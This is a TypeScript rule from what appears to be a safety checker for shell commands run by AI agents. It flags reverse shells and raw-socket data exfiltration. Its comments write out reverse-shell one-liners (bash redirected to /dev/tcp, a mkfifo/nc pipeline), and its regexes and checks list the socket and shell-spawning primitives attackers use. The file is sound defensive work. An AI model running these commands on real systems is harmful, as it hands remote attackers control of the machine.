import { hasShort, isLocalHost, positionals, RAW_NET, readsProgramFromStdin, SHELLS, type ShellCommand } from '../../shell/index.js';
import type { RuleContext } from '../context.js';
import { interpreterCode } from '../util.js';

const MSG = 'gives a remote host an interactive shell on this machine (a reverse shell); never run this from an agent.';
const SOCKET = /\bsocket\s*\.\s*socket\b|\bsocket\s*\(|\bfsockopen\b|\bTCPSocket\b|\bnet\.Socket\b|\bnet\.connect\b|\bnet\.createConnection\b|require\(\s*['"](?:node:)?net['"]\s*\)|\bIO::Socket\b|\buse Socket\b|\bSocket::|\/inet\/tcp\/|\/dev\/tcp\/|\bNet\.Sockets\.TCPClient\b|\bSystem\.Net\.Sockets\b|\bsocket\.connect\b|\bsocket\.tcp\s*\(|\bnew Socket\s*\(|\bsocket\.create_connection\b|\bztcp\b/;
const SPAWN = /\/bin\/(?:ba|z|da|k|c|tc)?sh\b|\bpty\.spawn\b|\bos\.dup2\b|\bsubprocess\b|\bchild_process\b|\bproc_open\b|\bpopen\b|\bshell_exec\b|\bpassthru\b|\bexec\s*\(?\s*["'`]?(?:\/bin\/)?(?:ba|z)?sh\b|\bspawn\s*\(\s*["'](?:\/bin\/)?(?:ba|z)?sh\b|\bIO\.popen\b|\bcmd\.exe\b|\bos\.system\b|\bos\.execute\b|\bsystem\s*\(\s*["'](?:\/bin\/)?(?:ba|z)?sh|\|&\s*getline|\bInvoke-Expression\b|\biex\b|\bGetStream\s*\(\s*\)|\bopen\s*\(\s*STDIN\b|\bexec\s*\{|\bfdopen\b|\bsystem\s*\$/;

export function reverseShell(ctx: RuleContext, c: ShellCommand, i: number): void {
  // bash -i >& /dev/tcp/host/port 0>&1 ; exec 5<>/dev/tcp/host/port ; sh </dev/udp/…
  for (const r of c.redirects) {
    const m = /^\/dev\/(?:tcp|udp)\/([^/\s]{1,253})\/\d{1,5}/.exec(r.target);
    if (!m || isLocalHost(m[1]!)) continue;
    const shell = SHELLS.has(c.name) || readsProgramFromStdin(c.name, c.argv);
    const dup = c.redirects.some((x) => (x.op === '>&' || x.op === '<&') && /^\d$/.test(x.target)) || r.op === '>&' || r.op === '&>' || r.op === '<>';
    if (shell && (dup || hasShort(c.argv, 'i'))) ctx.report(c, 'reverse-shell', 'critical', 0.97, `${c.name} with its input and output redirected to /dev/tcp ${MSG}`);
    else if (c.name === 'exec' || c.name === '') ctx.report(c, 'reverse-shell', 'high', 0.75, `Opening a socket to ${m[1]} as a shell file descriptor is how reverse shells start; use curl or a client library for network access.`);
    else if (r.op === '>' || r.op === '>>') {
      const reads = (c.argv.length > 1 && (c.name === 'cat' || c.name === 'tar' || c.name === 'base64')) || c.redirects.some((x) => x.op === '<' && !x.target.startsWith('/dev/'));
      if (reads) ctx.report(c, 'data-exfiltration', 'high', 0.8, `File contents are written to a raw TCP connection to ${m[1]}; sending local data to another host needs the user's approval.`);
    }
  }
  if (RAW_NET.has(c.name)) {
    const a = c.argv;
    const execIdx = a.findIndex((x, k) => k > 0 && (/^-[a-zA-Z]*e$/.test(x) || x === '--exec' || x === '--sh-exec' || x === '--lua-exec' || x.startsWith('--exec=') || x.startsWith('--sh-exec=') || (x === '-c' && /(?:^|\/)(?:ba|z|da)?sh\b|cmd/.test(a[k + 1] ?? ''))));
    if (execIdx > 0) ctx.report(c, 'reverse-shell', 'critical', 0.95, `${c.name} ${a[execIdx]} attaches a program to a network connection, which ${MSG}`);
    if (c.name === 'socat') {
      const ex = a.some((x) => /^(?:exec|system)\s*:/i.test(x));
      const net = a.some((x) => /^(?:tcp|tcp4|tcp6|udp|udp4|udp6|openssl|ssl|tcp-connect|tcp-listen|tcp4-listen|openssl-connect|openssl-listen|sctp)[-:]/i.test(x));
      if (ex && net) ctx.report(c, 'reverse-shell', 'critical', 0.95, `socat connects a network socket to a program, which ${MSG}`);
    }
    // mkfifo f; cat f | sh -i 2>&1 | nc host port > f ; nc host port | sh | nc host port2
    for (const j of ctx.upstream(i).concat(ctx.downstream(i))) {
      const s = ctx.cmds[j]!;
      if (SHELLS.has(s.name) && (hasShort(s.argv, 'i') || readsProgramFromStdin(s.name, s.argv))) {
        ctx.report(c, 'reverse-shell', 'critical', 0.95, `A shell is wired to ${c.name} in one pipeline, which ${MSG}`);
        break;
      }
    }
  }
  if (c.name === 'telnet' || (c.name === 'openssl' && c.argv[1] === 's_client')) {
    for (const j of ctx.downstream(i)) {
      const s = ctx.cmds[j]!;
      if (SHELLS.has(s.name) && readsProgramFromStdin(s.name, s.argv)) { ctx.report(c, 'reverse-shell', 'critical', 0.95, `A network connection is piped into a shell, which ${MSG}`); break; }
    }
  }
  // zsh's ztcp opens a socket as a file descriptor, like /dev/tcp.
  if (c.name === 'ztcp' && !c.argv.includes('-l') && positionals(c.argv).some((h) => /[a-z0-9]/i.test(h) && !isLocalHost(h) && !/^\d{1,5}$/.test(h))) {
    ctx.report(c, 'reverse-shell', 'high', 0.8, `ztcp opens a raw socket as a shell file descriptor, which is how zsh reverse shells start; use curl or a client library for network access.`);
  }
  const code = interpreterCode(c);
  if (code !== undefined && SOCKET.test(code) && SPAWN.test(code)) {
    ctx.report(c, 'reverse-shell', 'critical', 0.9, `This ${c.name} one-liner connects a socket to a shell, which ${MSG}`);
  }
  if (c.name === 'xterm' && c.argv.includes('-display') && !/^(?::|localhost:|127\.)/.test(c.argv[c.argv.indexOf('-display') + 1] ?? ':')) {
    ctx.report(c, 'reverse-shell', 'high', 0.8, `xterm -display to a remote X server ${MSG}`);
  }
}
